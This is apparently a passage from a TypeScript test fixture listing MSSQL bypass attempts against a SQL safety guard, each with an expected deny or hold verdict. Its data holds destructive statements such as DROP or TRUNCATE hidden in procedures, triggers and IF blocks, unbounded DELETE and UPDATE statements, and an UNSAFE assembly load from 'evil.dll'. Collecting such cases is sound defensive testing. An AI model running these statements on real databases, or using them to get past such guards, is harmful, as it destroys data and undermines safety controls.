    { trick: 'loading an assembly', sql: `CREATE ASSEMBLY evil FROM 'c:\\evil.dll' WITH PERMISSION_SET = UNSAFE`, expect: 'deny', rule: FILES },
  ]),
  ...tricks('stored code and DDL in disguise', [
    { trick: 'procedure whose body drops', sql: 'CREATE PROCEDURE p AS BEGIN DROP TABLE orders END', expect: 'hold', rule: DDL },
    { trick: 'CREATE OR ALTER PROCEDURE: the rest of the batch is its body', sql: 'CREATE OR ALTER PROC p AS TRUNCATE TABLE orders; EXEC p', expect: 'hold', rule: DDL },
    { trick: 'trigger whose body deletes', sql: 'CREATE TRIGGER t ON notes AFTER INSERT AS DELETE FROM orders', expect: 'hold', rule: DDL },
    { trick: 'IF without BEGIN', sql: 'IF 1 = 1 DROP TABLE orders', expect: 'deny', rule: NO_DROP },
    { trick: 'IF ... BEGIN ... END', sql: 'IF EXISTS (SELECT 1 FROM orders) BEGIN TRUNCATE TABLE orders END', expect: 'deny', rule: NO_DROP },
    { trick: 'WHILE loop that deletes', sql: 'WHILE 1 = 0 BEGIN DELETE FROM orders END', expect: 'deny', rule: UNBOUNDED },
    { trick: 'ALTER', sql: 'ALTER TABLE orders ADD note NVARCHAR(100)', expect: 'hold', rule: DDL },
    { trick: 'SELECT INTO creates a table', sql: 'SELECT * INTO orders_copy FROM orders', expect: 'hold', rule: DDL },
  ]),
  ...tricks('unbounded writes', [
    { trick: 'DELETE without FROM or WHERE', sql: 'DELETE orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'unbounded UPDATE', sql: 'UPDATE orders SET total = 0', expect: 'deny', rule: UNBOUNDED },
    { trick: 'TOP is not a WHERE', sql: 'DELETE TOP (100000) FROM orders', expect: 'deny', rule: UNBOUNDED },
    { trick: 'UPDATE through a FROM alias without WHERE', sql: 'UPDATE o SET total = 0 FROM orders o', expect: 'deny', rule: UNBOUNDED },
    { trick: 'tautological WHERE', sql: "DELETE FROM orders WHERE 'a' = 'a'", expect: 'deny', rule: UNBOUNDED },
  ]),
  ...tricks('not SQL at all', [{ trick: 'not SQL at all', sql: 'DR0P TABLE orders', expect: 'deny', rule: UNKNOWN }]),
];

export const BYPASSES: Readonly<Record<'postgres' | 'mysql' | 'mssql', readonly BypassAttempt[]>> = {
  postgres: POSTGRES_BYPASSES,
  mysql: MYSQL_BYPASSES,
  mssql: MSSQL_BYPASSES,
};
